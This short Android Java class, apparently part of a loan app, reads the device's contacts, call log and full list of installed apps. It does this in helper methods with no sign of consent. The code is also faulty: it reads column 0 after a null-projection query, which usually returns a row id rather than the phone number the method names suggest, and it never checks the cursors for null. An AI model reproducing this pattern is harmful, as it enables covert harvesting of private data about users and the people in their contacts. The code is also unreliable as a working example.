package example.loans;

import android.content.Context;
import android.content.pm.ApplicationInfo;
import android.database.Cursor;
import android.provider.CallLog;
import android.provider.ContactsContract;

final class Data {
    private Data() {}

    static String contact(Context context) {
        Cursor rows = context.getContentResolver().query(
                ContactsContract.CommonDataKinds.Phone.CONTENT_URI, null, null, null, null);
        String number = "";
        if (rows.moveToFirst()) {
            number = rows.getString(0);
        }
        rows.close();
        return number;
    }

    static String call(Context context) {
        Cursor rows = context.getContentResolver().query(CallLog.Calls.CONTENT_URI, null, null, null, null);
        String number = "";
        if (rows.moveToFirst()) {
            number = rows.getString(0);
        }
        rows.close();
        return number;
    }

    static String apps(Context context) {
        StringBuilder names = new StringBuilder();
        for (ApplicationInfo one : context.getPackageManager().getInstalledApplications(0)) {
            names.append(one.packageName).append(',');
        }
        return names.toString();
    }
}
